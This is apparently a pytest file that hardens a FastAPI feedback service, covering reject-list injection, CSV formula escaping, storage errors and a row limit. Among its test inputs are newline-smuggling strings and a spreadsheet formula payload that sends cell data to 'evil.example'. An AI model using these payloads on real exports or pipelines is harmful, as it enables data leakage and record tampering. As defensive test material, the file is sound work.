"""Feedback abuse through the real app (hardening issue): text that tries to reach the
reject list (item 2), a full disk (item 9), and the row limit under concurrent writers
(item 10)."""

from __future__ import annotations

import csv
import json
import sqlite3
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from fastapi.testclient import TestClient

from celltext.data.review import apply_verdicts, load_rejects, read_verdicts
from celltext.serving.app import create_app
from celltext.serving.feedback import FeedbackStore
from celltext.serving.settings import ServingSettings

INJECTED = [
    "wrong\u2028subject: neural network\u2028deadbeefdeadbeef",
    "wrong\u2029subject: gradient descent\u2029cafebabecafebabe",
    "wrong\rsubject: neural network\rdeadbeefdeadbeef",
    "wrong\nsubject: neural network\ndeadbeefdeadbeef",
]


@pytest.fixture
def make_client(predictor, tmp_path):
    clients = []

    def make(**kw) -> TestClient:
        base = {"feedback_db": str(tmp_path / "fb.sqlite3"), "warmup": False}
        app = create_app(ServingSettings(**{**base, **kw}), predictor=predictor)
        client = TestClient(app, raise_server_exceptions=False).__enter__()
        clients.append(client)
        return client

    yield make
    for c in clients:
        c.__exit__(None, None, None)


def _reject_all(path):
    rows = read_verdicts(path)
    for row in rows:
        row["verdict"] = "reject"
    if path.suffix == ".csv":
        with path.open("w", newline="", encoding="utf-8") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    else:
        path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
    return len(rows)


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_feedback_text_cannot_reach_the_reject_list(make_client, tmp_path, suffix):
    client = make_client()
    for text in INJECTED:
        body = {"question": "What is X?", "answer": "Y.", "rating": "down", "comment": text,
                "model": text}  # fmt: skip
        assert client.post("/v1/feedback", json=body).status_code == 200
    out = FeedbackStore(tmp_path / "fb.sqlite3").export_review(tmp_path / f"review{suffix}")
    assert _reject_all(out) == len(INJECTED)  # the export reads back as one row per rating
    rejects = tmp_path / "rejects.txt"
    assert apply_verdicts(out, rejects) == len(INJECTED)
    got = load_rejects(rejects)
    assert got.subjects == set() and not {"deadbeefdeadbeef", "cafebabecafebabe"} & got.ids
    assert got.ids == {f"feedback-{i}" for i in range(1, len(INJECTED) + 1)}


def test_feedback_csv_export_has_no_formulas(make_client, tmp_path):
    client = make_client()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    body = {"question": formula, "answer": "@SUM(1)", "rating": "down", "comment": "+1"}
    assert client.post("/v1/feedback", json=body).status_code == 200
    out = FeedbackStore(tmp_path / "fb.sqlite3").export_review(tmp_path / "review.csv")
    with out.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["question"] == "'" + formula and row["answer"] == "'@SUM(1)"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def _failing_writes(message: str) -> type[sqlite3.Connection]:
    """A connection class whose inserts fail as SQLite's do (``database or disk is full``)."""

    class Failing(sqlite3.Connection):
        def execute(self, sql, *args):
            if sql.lstrip().upper().startswith("INSERT"):
                raise sqlite3.OperationalError(message)
            return super().execute(sql, *args)

    return Failing


@pytest.mark.parametrize(
    ("error", "status", "needle"),
    [("database or disk is full", 507, "out of disk space"),
     ("database is locked", 503, "try again")],
)  # fmt: skip
def test_storage_errors_are_clear_answers_not_500(make_client, monkeypatch, error, status, needle):
    client = make_client()
    real_connect = sqlite3.connect
    failing = _failing_writes(error)
    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: real_connect(*a, **k, factory=failing))
    body = {"question": "What is X?", "answer": "Y.", "rating": "down"}
    r = client.post("/v1/feedback", json=body)
    assert r.status_code == status and needle in r.json()["detail"]
    assert status != 503 or r.headers["retry-after"]
    monkeypatch.setattr(sqlite3, "connect", real_connect)
    assert client.post("/v1/feedback", json=body).status_code == 200  # same connection, recovered
    assert 'status="500"' not in client.get("/metrics").text


def test_row_limit_holds_with_two_workers(make_client, monkeypatch):
    """Two apps (two workers) on one database file, 20 clients at once, a limit of 5."""
    real_connect = sqlite3.connect

    def slow_connect(*args, **kwargs):  # widens any gap between counting and inserting
        time.sleep(0.02)
        return real_connect(*args, **kwargs)

    monkeypatch.setattr(sqlite3, "connect", slow_connect)
    workers = [make_client(feedback_max_rows=5), make_client(feedback_max_rows=5)]
    body = {"question": "What is X?", "answer": "Y.", "rating": "up"}
    with ThreadPoolExecutor(20) as pool:
        codes = list(pool.map(lambda i: workers[i % 2].post("/v1/feedback", json=body).status_code,
                              range(20)))  # fmt: skip
    monkeypatch.setattr(sqlite3, "connect", real_connect)
    assert sorted(codes) == [200] * 5 + [507] * 15
    assert sum(FeedbackStore(workers[0].app.state.service.feedback.path).counts().values()) == 5
